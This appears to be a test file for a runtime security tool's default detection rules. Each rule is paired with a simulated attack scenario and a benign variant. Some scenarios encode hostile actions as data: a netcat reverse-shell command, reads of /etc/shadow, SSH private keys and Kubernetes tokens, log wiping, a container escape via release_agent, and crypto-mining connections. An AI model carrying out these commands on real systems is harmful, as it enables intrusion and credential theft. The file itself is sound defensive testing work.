/**
 * Vigil's default ruleset (rules/vigil_rules.yaml) through the syscall engine: every rule has a
 * scenario that makes it fire and a close variant that must not.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { Readable } from 'node:stream';
import { projectPath } from '../core/index.ts';
import { Scenario, tuple4 } from '../sources/index.ts';
import { loadSyscallRulesText, SyscallEngine } from './index.ts';

const CID = 'd'.repeat(64);
const CG = [`cpuset=/kubepods/besteffort/pod1/${CID}`];
const rules = [{ name: 'vigil_rules.yaml', content: readFileSync(projectPath('rules', 'vigil_rules.yaml'), 'utf8') }];
const { result, ruleset } = loadSyscallRulesText(rules, { ruleMatching: 'all' });

/** A host with a container shim (pid 50) whose processes live in container CID. */
function world(): Scenario {
  return new Scenario([
    { tid: 1, pid: 1, ptid: 0, comm: 'systemd', exe: '/sbin/init', exepath: '/usr/lib/systemd/systemd' },
    { tid: 40, pid: 40, ptid: 1, comm: 'bash', exe: 'bash', exepath: '/bin/bash' },
    { tid: 50, pid: 50, ptid: 1, comm: 'containerd-shim', exe: 'containerd-shim', exepath: '/usr/bin/containerd-shim', cgroups: CG },
  ]);
}

/** A process `name` started in the container (under the shim unless `parent` is given). */
function inContainer(name: string, args: string[] = [], o: { tty?: number; exeFlags?: number; path?: string; parent?: string } = {}): Scenario {
  const s = world();
  if (o.parent) s.clone(60, 60, 50, o.parent).execve(60, 60, 50, `/bin/${o.parent}`, [], { cgroups: CG });
  const ptid = o.parent ? 60 : 50;
  return s.clone(70, 70, ptid, 'x').execve(70, 70, ptid, o.path ?? `/usr/bin/${name}`, args, { cgroups: CG, tty: o.tty, exeFlags: o.exeFlags });
}

/** A process `name` started on the host under bash. */
function onHost(name: string, args: string[] = [], path?: string): Scenario {
  return world().clone(80, 80, 40, 'bash').execve(80, 80, 40, path ?? `/usr/bin/${name}`, args);
}

const open = (s: Scenario, tid: number, path: string, flags: number, fd = 3) => s.ev('PPME_SYSCALL_OPENAT_2_X', tid, [fd, -100, path, flags, 0, 0, 0n]);
const RD = 1;
const WR = 2 | 4; // O_WRONLY|O_CREAT
const TRUNC = 2 | (1 << 8);

async function fired(s: Scenario): Promise<string[]> {
  const names: string[] = [];
  const engine = new SyscallEngine(ruleset, { hostname: 't', onAlert: (a) => names.push(a.rule) });
  await engine.run(Readable.from([s.bytes()]));
  return names;
}

const containerJson = (privileged: boolean) =>
  JSON.stringify({ container: { id: CID, type: 7, name: 'web', image: 'nginx:1.25', privileged, labels: { 'io.kubernetes.pod.name': 'web-0', 'io.kubernetes.pod.namespace': 'prod' } } });

/** [rule, firing scenario, non-firing scenario]. */
const CASES: [string, () => Scenario, () => Scenario][] = [
  ['Terminal Shell in Container', () => inContainer('bash', [], { tty: 34816 }), () => onHost('bash')],
  ['Shell Spawned in Container by Non-Shell Parent', () => inContainer('sh', ['-c', 'id'], { parent: 'python3' }), () => inContainer('sh', ['-c', 'id'])],
  ['Network Tool Launched in Container', () => inContainer('nmap', ['10.0.0.1']), () => onHost('nmap', ['10.0.0.1'])],
  ['Netcat Remote Code Execution in Container', () => inContainer('nc', ['-e', '/bin/sh', '1.2.3.4', '80']), () => inContainer('nc', ['1.2.3.4', '80'])],
  ['Read Sensitive File by Untrusted Program', () => open(onHost('python3'), 80, '/etc/shadow', RD), () => open(onHost('sshd'), 80, '/etc/shadow', RD)],
  ['Write Below Etc', () => open(onHost('vim'), 80, '/etc/crontab', WR), () => open(onHost('vim'), 80, '/etc/hosts', WR)],
  ['Write Below Binary Dir', () => open(onHost('curl'), 80, '/usr/bin/backdoor', WR), () => open(onHost('dpkg'), 80, '/usr/bin/backdoor', WR)],
  ['Modify User Database Files', () => open(onHost('perl'), 80, '/etc/passwd', WR), () => open(onHost('useradd'), 80, '/etc/passwd', WR)],
  ['Shadow-utils Binary Modified', () => open(onHost('cp'), 80, '/usr/sbin/useradd', WR), () => open(onHost('cp'), 80, '/usr/sbin/nginx', WR)],
  ['User Management Tool Run in Container', () => inContainer('useradd', ['eve']), () => onHost('useradd', ['eve'])],
  ['Package Management Process Launched in Container', () => inContainer('apt-get', ['install', 'x']), () => onHost('apt-get', ['install', 'x'])],
  ['Launch Privileged Container', () => world().ev('PPME_CONTAINER_JSON_2_E', -1, [containerJson(true)]), () => world().ev('PPME_CONTAINER_JSON_2_E', -1, [containerJson(false)])],
  ['Drift Detected (Executable Not in Image)', () => inContainer('payload', [], { exeFlags: 2 }), () => inContainer('payload', [], { exeFlags: 0 })],
  ['Fileless Execution via memfd_create', () => onHost('x', [], 'memfd:payload'), () => onHost('x')],
  ['Execution from Temporary Directory', () => onHost('dropper', [], '/tmp/dropper'), () => onHost('dropper', [], '/opt/dropper')],
  ['Crypto Miner Launched', () => onHost('xmrig', ['-o', 'pool:3333']), () => onHost('make', ['-j4'])],
  ['Outbound Connection to Crypto Mining Port', () => onHost('miner').ev('PPME_SOCKET_SOCKET_X', 80, [4, 2, 1, 0, 0]).ev('PPME_SOCKET_CONNECT_X', 80, [0, tuple4('10.0.0.5', 40000, '45.9.148.1', 3333), 4]),
    () => onHost('miner').ev('PPME_SOCKET_SOCKET_X', 80, [4, 2, 1, 0, 0]).ev('PPME_SOCKET_CONNECT_X', 80, [0, tuple4('10.0.0.5', 40000, '45.9.148.1', 443), 4])],
  ['Unexpected Outbound Connection from Container', () => inContainer('backdoor').ev('PPME_SOCKET_SOCKET_X', 70, [4, 2, 1, 0, 0]).ev('PPME_SOCKET_CONNECT_X', 70, [0, tuple4('10.1.0.5', 40000, '203.0.113.9', 443), 4]),
    () => inContainer('curl').ev('PPME_SOCKET_SOCKET_X', 70, [4, 2, 1, 0, 0]).ev('PPME_SOCKET_CONNECT_X', 70, [0, tuple4('10.1.0.5', 40000, '203.0.113.9', 443), 4])],
  ['Clear Log Activities', () => open(onHost('sh'), 80, '/var/log/auth.log', TRUNC), () => open(onHost('logrotate'), 80, '/var/log/auth.log', TRUNC)],
  ['Delete Shell History', () => onHost('rm').ev('PPME_SYSCALL_UNLINKAT_2_X', 80, [0, -100, '/root/.bash_history', 0]), () => onHost('rm').ev('PPME_SYSCALL_UNLINKAT_2_X', 80, [0, -100, '/root/notes.txt', 0])],
  ['Search for Private Keys or Passwords', () => onHost('find', ['/', '-name', 'id_rsa']), () => onHost('find', ['/', '-name', '*.log'])],
  ['Read SSH Private Keys', () => open(onHost('python3'), 80, '/root/.ssh/id_ed25519', RD), () => open(onHost('python3'), 80, '/root/.ssh/id_ed25519.pub', RD)],
  ['Create Symlink Over Sensitive Files', () => onHost('ln').ev('PPME_SYSCALL_SYMLINKAT_X', 80, [0, '/etc/shadow', -100, '/tmp/s']), () => onHost('ln').ev('PPME_SYSCALL_SYMLINKAT_X', 80, [0, '/etc/motd', -100, '/tmp/s'])],
  ['Create Hardlink Over Sensitive Files', () => onHost('ln').ev('PPME_SYSCALL_LINKAT_2_X', 80, [0, -100, '/etc/shadow', -100, '/tmp/h', 0]), () => onHost('ln').ev('PPME_SYSCALL_LINKAT_2_X', 80, [0, -100, '/etc/motd', -100, '/tmp/h', 0])],
  ['Packet Socket Created in Container', () => inContainer('sniffer').ev('PPME_SOCKET_SOCKET_X', 70, [4, 17, 3, 0, 0]), () => inContainer('sniffer').ev('PPME_SOCKET_SOCKET_X', 70, [4, 2, 1, 0, 0])],
  ['Redirect STDOUT/STDIN to Network Connection in Container',
    () => inContainer('sh').ev('PPME_SOCKET_SOCKET_X', 70, [4, 2, 1, 0, 0]).ev('PPME_SOCKET_CONNECT_X', 70, [0, tuple4('10.1.0.5', 40000, '203.0.113.9', 4444), 4]).ev('PPME_SYSCALL_DUP2_X', 70, [1, 4, 1]),
    () => open(inContainer('sh'), 70, '/tmp/out', WR, 4).ev('PPME_SYSCALL_DUP2_X', 70, [1, 4, 1])],
  ['Linux Kernel Module Injection', () => onHost('loader').ev('PPME_SYSCALL_FINIT_MODULE_X', 80, [0, 3, '', 0]), () => onHost('modprobe').ev('PPME_SYSCALL_FINIT_MODULE_X', 80, [0, 3, '', 0])],
  ['PTRACE Attached to Process', () => onHost('inject').ev('PPME_SYSCALL_PTRACE_X', 80, [0, Buffer.from([0]), Buffer.from([0]), 11, 1]), () => onHost('gdb').ev('PPME_SYSCALL_PTRACE_X', 80, [0, Buffer.from([0]), Buffer.from([0]), 11, 1])],
  ['Debugfs Launched in Privileged Container', () => inContainer('debugfs').ev('PPME_CONTAINER_JSON_2_E', -1, [containerJson(true)]).clone(71, 71, 50, 'x').execve(71, 71, 50, '/sbin/debugfs', [], { cgroups: CG }),
    () => inContainer('debugfs').ev('PPME_CONTAINER_JSON_2_E', -1, [containerJson(false)]).clone(71, 71, 50, 'x').execve(71, 71, 50, '/sbin/debugfs', [], { cgroups: CG })],
  ['Mount Launched in Container', () => inContainer('mount', ['/dev/sda1', '/mnt'], { parent: 'bash' }), () => inContainer('mount', ['/dev/sda1', '/mnt'])],
  ['Detect Release Agent File Container Escape', () => open(inContainer('sh'), 70, '/sys/fs/cgroup/x/release_agent', WR), () => open(inContainer('sh'), 70, '/tmp/release_notes', WR)],
  ['Inbound Connection to Shell', () => onHost('bash').ev('PPME_SOCKET_ACCEPT4_6_X', 80, [5, tuple4('203.0.113.9', 50000, '10.0.0.5', 22), 0, 0, 1, 0]),
    () => onHost('nginx').ev('PPME_SOCKET_ACCEPT4_6_X', 80, [5, tuple4('203.0.113.9', 50000, '10.0.0.5', 80), 0, 0, 1, 0])],
  ['Kubernetes Client Run in Container', () => inContainer('kubectl', ['get', 'secrets']), () => onHost('kubectl', ['get', 'secrets'])],
  ['Service Account Token Read by Shell Tool', () => open(inContainer('cat'), 70, '/var/run/secrets/kubernetes.io/serviceaccount/token', RD), () => open(inContainer('java'), 70, '/var/run/secrets/kubernetes.io/serviceaccount/token', RD)],
];

test('the default ruleset loads with every rule covered by a case', () => {
  assert.deepEqual(result.errors, []);
  const names = result.rules.map((r) => r.name).sort();
  assert.deepEqual([...CASES.map((c) => c[0])].sort(), names);
});

for (const [rule, hit, miss] of CASES) {
  test(`default rule fires and stays quiet: ${rule}`, async () => {
    assert.ok((await fired(hit())).includes(rule), 'fires on the attack scenario');
    assert.ok(!(await fired(miss())).includes(rule), 'quiet on the benign variant');
  });
}
